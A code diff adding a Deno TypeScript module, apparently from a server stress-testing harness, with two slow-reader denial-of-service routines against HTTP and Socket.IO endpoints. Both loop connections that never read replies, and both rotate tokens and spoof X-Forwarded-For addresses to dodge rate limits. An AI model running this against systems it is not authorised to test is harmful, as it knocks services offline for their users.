@@ -1,0 +1,68 @@
+import { type Attack, each, from, pause } from "./attack.ts";
+import { close, frame, head, open, openSocket, write } from "./wire.ts";
+
+/** Asks for something large, again and again, and reads nothing of it. */
+export const unreadAnswers: Attack = async (order, off, begun) => {
+  const { url, count, tokens = [], path = "/", again } = order;
+  const result = { asked: 0, cut: 0 };
+  await each(count, begun, async (i, begun) => {
+    const request = head(url, `GET ${path}`, {
+      Authorization: `Bearer ${tokens[i % tokens.length]}`,
+      "X-Forwarded-For": from.v4(i % tokens.length),
+    });
+    do {
+      const connection = await open(url).catch(() => undefined);
+      if (connection) {
+        await write(connection, request).catch(() => {});
+        result.asked++;
+        begun();
+        if (await cutOff(connection, "\r\n", off)) result.cut++;
+        close(connection);
+      }
+      await pause(500, off);
+    } while (again && !off.aborted);
+  });
+  return result;
+};
+
+/** Lets itself be connected, and reads nothing of what the others are told. */
+export const unreadSockets: Attack = async (order, off, begun) => {
+  const { url, count, tokens = [], again } = order;
+  const result = { connected: 0, refused: 0, cut: 0, slowest: 0 };
+  await each(count, begun, async (i, begun) => {
+    const token = tokens[i % tokens.length];
+    do {
+      const opened = await openSocket(url, { token, address: from.v4(i) }).catch(() => undefined);
+      const isIn = /40\{"sid/.test(opened?.answer ?? "");
+      if (isIn) result.connected++;
+      else result.refused++;
+      begun();
+      const began = performance.now();
+      // Pongs that nobody asked for: the server does not take it for dead.
+      if (isIn && await cutOff(opened!.connection, frame("3"), off)) {
+        result.cut++;
+        result.slowest = Math.max(result.slowest, (performance.now() - began) / 1000);
+      }
+      close(opened?.connection);
+      await pause(1000, off);
+    } while (again && !off.aborted);
+  });
+  return result;
+};
+
+/** Whether the other side ended it before `off`: one who does not read notices when writing. */
+async function cutOff(
+  connection: Deno.Conn,
+  sign: string | Uint8Array,
+  off: AbortSignal,
+): Promise<boolean> {
+  while (!off.aborted) {
+    await pause(500, off);
+    try {
+      await write(connection, sign);
+    } catch {
+      return true;
+    }
+  }
+  return false;
+}
